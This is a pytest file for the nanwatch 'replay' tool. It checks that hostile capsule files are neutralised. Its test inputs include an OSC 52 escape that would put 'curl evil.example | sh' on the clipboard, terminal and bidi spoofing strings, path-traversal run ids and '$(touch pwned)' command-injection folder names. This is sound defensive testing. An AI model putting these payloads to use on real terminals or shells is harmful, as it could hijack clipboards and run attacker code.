"""What the capsule side prints and names (issue #27, findings 6, 7 and 8): a capsule is a file someone hands
you, so everything ``nanwatch replay`` prints from it passes ``nanwatch.readable.printable``; its header
length is refused before any of it is parsed when it is over the limit (at or below safetensors' own 100 MB);
a capsule's file name is injective in the run id; every command printed for pasting is shell-quoted.

| input                                                    | expected                                        |
|----------------------------------------------------------|-------------------------------------------------|
| metadata strings with OSC 52, CSI, C1, bidi, newlines     | none of them raw in the table nor in an error line; no forged line |
| a header length just over the limit (only the 8 bytes)   | exit 2, one line, nothing parsed                 |
| a real header just over the limit                        | exit 2, one line                                 |
| runs ``grpo:0412`` and ``grpo_0412`` (and ``a/b``, ``..``) | different capsule files, inside the folder      |
| a capsule folder named ``$(touch pwned)``                | the log line's command, pasted into bash, touches nothing |
| a log folder named ``$(touch pwned)`` (reports kept)      | the sender's ``nanwatch push`` command, pasted, touches nothing |
"""

from __future__ import annotations

import json
import logging
import struct
import subprocess
import types
import unicodedata
from pathlib import Path

import pytest
import torch

from nanwatch.cli.replay_verdict import main as replay_main
from nanwatch.hooks.forensics.capsule import META_KEY, CapsuleWriter, digest

safetensors_torch = pytest.importorskip("safetensors.torch")

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes "curl evil.example | sh" to the clipboard
ERASE = "\x1b[2K\r"  # erase the line, back to its start
C1 = "\x9b2K\x9d0;title\x9c"  # CSI and OSC as single C1 characters
BIDI = "\u202e\u2066"
FORGED = "class    precision: non-finite on the recorded path, finite under another setting"
EVIL = f"{OSC52}{ERASE}{C1}{BIDI}x\n{FORGED}\r\n\u2028{FORGED}"


def _incident(cls: str = "data_mask", step: int = 1):
    dump = {"cls": cls, "step": step, "phase": "forward", "birth_elements": 3}
    return types.SimpleNamespace(cls=cls, step=step, model_dump=lambda mode="json": dict(dump))


def _write(tmp_path: Path, run_id: str = "r", *, directory: Path | None = None, cls: str = "data_mask") -> str:
    """A real capsule of a torch.nn.Linear with a NaN weight (replays as data_mask), via the trainer's writer."""
    torch.manual_seed(0)
    lin = torch.nn.Linear(4, 3)
    with torch.no_grad():
        lin.weight[0, 0] = float("nan")
    w = CapsuleWriter(run_id=run_id, rank=0, directory=str(directory or tmp_path / "caps"), max_count=4,
                      max_bytes=1 << 20)
    path = w.capture(incident=_incident(cls), name="layer", module=lin, args=(torch.randn(2, 4),), kwargs={},
                     rng=torch.get_rng_state())
    w.join()
    assert path and Path(path).is_file(), path
    return path


def _rewrite(path: str, edit) -> None:
    """The capsule at ``path`` with its metadata edited by hand (same tensors, so its digests still hold)."""
    from safetensors import safe_open

    with safe_open(path, framework="pt") as f:
        meta = json.loads(f.metadata()[META_KEY])
        tensors = {k: f.get_tensor(k) for k in f.keys()}  # noqa: SIM118 - safe_open is not a dict
    edit(meta)
    meta["digests"] = {k: digest(t) for k, t in tensors.items()}
    safetensors_torch.save_file(tensors, path, metadata={META_KEY: json.dumps(meta)})


def _unsafe(text: str) -> list[str]:
    """The characters of ``text`` a terminal would act on (the output's own newlines aside)."""
    return sorted({repr(c) for c in text if c != "\n" and (unicodedata.category(c)[0] == "C"
                                                           or unicodedata.category(c) in ("Zl", "Zp"))})


def _replay(path: str, capsys, *extra: str) -> tuple[int, str]:
    code = replay_main([path, *extra])
    out = capsys.readouterr()
    return code, out.out + out.err


def test_replays_table_shows_hostile_metadata_escaped_and_forges_no_line(tmp_path, capsys):
    path = _write(tmp_path)

    def edit(meta):
        meta["fqn"] = meta["host"] = meta["device"] = EVIL
        meta["incident"].update(cls=EVIL, birth_elements=EVIL)
        meta["dropped"] = [f"kwarg.{EVIL} (x: {EVIL})"]
        meta["capture"] = {"of": "birth", "note": EVIL}

    _rewrite(path, edit)
    code, text = _replay(path, capsys, "--try", "same,fp32")
    assert code == 0, text  # the table was printed: a NaN weight reproduces under every setting
    assert not _unsafe(text), (_unsafe(text), text)
    assert [ln for ln in text.splitlines() if ln.startswith("class")] == [ln for ln in text.splitlines()
                                                                          if ln.startswith("class    data_mask")]
    assert "\\u001b]52;c;" in text  # shown, escaped, not dropped: the on-call sees that something was there


def test_replays_error_line_shows_hostile_metadata_escaped(tmp_path, capsys):
    path = _write(tmp_path)

    def edit(meta):  # a dropped parameter: refused, exit 2, naming it
        meta["dropped"] = [f"param.weight{EVIL}"]

    _rewrite(path, edit)
    code, text = _replay(path, capsys)
    assert code == 2, text
    assert not _unsafe(text), (_unsafe(text), text)
    assert len(text.strip().splitlines()) == 1, text


def _header_file(path: Path, n: int, body: bytes = b"") -> Path:
    path.write_bytes(struct.pack("<Q", n) + body)
    return path


def test_a_header_length_over_the_limit_is_refused_before_any_of_it_is_read(tmp_path, capsys, monkeypatch):
    from nanwatch.hooks.forensics import replay

    assert replay._MAX_HEADER <= 100_000_000  # safetensors' own limit (MAX_HEADER_SIZE)
    # 99 MiB as the header length: the 8 bytes alone decide (the file is sparse: its size matches the claim)
    path = tmp_path / "bomb.capsule"
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", 99 << 20))
        f.truncate(8 + (99 << 20))
    read = []
    real_loads = json.loads
    monkeypatch.setattr(replay.json, "loads", lambda s, *a, **k: read.append(len(s)) or real_loads(s, *a, **k))
    code, text = _replay(str(path), capsys)
    assert code == 2 and "header" in text and len(text.strip().splitlines()) == 1, text
    assert not read  # never parsed


def test_a_real_header_just_over_the_limit_is_refused_in_one_line(tmp_path, capsys):
    from nanwatch.hooks.forensics import replay

    n = replay._MAX_HEADER + 1
    header = b'{"__metadata__": {"pad": "' + b"x" * (n - 29) + b'"}}'
    header += b" " * (n - len(header))
    assert len(header) == n
    code, text = _replay(str(_header_file(tmp_path / "big.capsule", n, header)), capsys)
    assert code == 2 and len(text.strip().splitlines()) == 1, text
    assert str(replay._MAX_HEADER) in text or f"{replay._MAX_HEADER >> 20} MiB" in text, text


def test_the_writer_refuses_a_header_over_the_replays_limit(tmp_path, monkeypatch, caplog):
    """A capsule the replay would refuse is never written: the writer warns instead (training goes on)."""
    from nanwatch.hooks.forensics import capsule

    monkeypatch.setattr(capsule, "MAX_HEADER_BYTES", 512)
    lin = torch.nn.Linear(4, 3)
    w = CapsuleWriter(run_id="r", rank=0, directory=str(tmp_path), max_count=4, max_bytes=1 << 20)
    with caplog.at_level(logging.WARNING, logger="nanwatch"):
        path = w.capture(incident=_incident(), name="layer", module=lin, args=(torch.randn(2, 4),), kwargs={},
                         rng=torch.get_rng_state())
        w.join()
    assert path is not None and not Path(path).exists()
    assert any("header" in r.getMessage() for r in caplog.records), caplog.text


@pytest.mark.parametrize("ids", [("grpo:0412", "grpo_0412"), ("a/b", "a_b", "a%2Fb"),
                                 ("..", "%2E%2E", "_2E_2E")])
def test_capsule_names_are_injective_in_the_run_id(tmp_path, ids):
    folder = tmp_path / "caps"
    paths = [_write(tmp_path, run_id) for run_id in ids]
    assert len(set(paths)) == len(ids), paths
    assert all(Path(p).parent == folder for p in paths), paths
    assert len(list(folder.iterdir())) == len(ids)


def test_a_long_run_id_still_gets_a_file_of_its_own(tmp_path):
    a, b = "r" * 400 + "a", "r" * 400 + "b"
    pa, pb = _write(tmp_path, a), _write(tmp_path, b)
    assert pa != pb and len(Path(pa).name) <= 255


def test_the_trainers_log_line_command_pasted_into_bash_runs_nothing(tmp_path, caplog):
    marker = tmp_path / "pwned"
    folder = tmp_path / f"caps $(touch {marker}) `touch {marker}`;touch {marker}"
    with caplog.at_level(logging.WARNING, logger="nanwatch"):
        path = _write(tmp_path, directory=folder)
    line = next(r.getMessage() for r in caplog.records if "capsule written" in r.getMessage())
    command = line.split("replay it: ", 1)[1]
    assert command.startswith("nanwatch replay ")
    # pasted into bash, with ``nanwatch`` a function that prints its arguments
    out = subprocess.run(["bash", "-c", f"nanwatch() {{ printf '%s\\n' \"$@\"; }}\n{command}"],
                         capture_output=True, text=True, timeout=30)
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines()[:2] == ["replay", path], out.stdout
    assert not marker.exists()



def test_the_push_command_a_sender_prints_is_shell_quoted(tmp_path):
    """The other command the trainer prints for pasting: ``nanwatch push`` for the reports it kept."""
    from nanwatch.hooks.report.transport import Delivery

    marker = tmp_path / "pwned"
    folder = tmp_path / f"logs $(touch {marker})" / "undelivered" / "run-r"
    d = Delivery(collector="http://127.0.0.1:9", submitted=2, delivered=0, kept=2, lost=0,
                 kept_in=str(folder / "rank0-ab.jsonl"), kept_steps="0-1")
    command = str(d).split("send them with `", 1)[1].rstrip("`")
    out = subprocess.run(["bash", "-c", f"nanwatch() {{ printf '%s\\n' \"$@\"; }}\n{command}"],
                         capture_output=True, text=True, timeout=30)
    assert out.stdout.splitlines() == ["push", "--collector", "http://127.0.0.1:9", str(folder)], out
    assert not marker.exists()
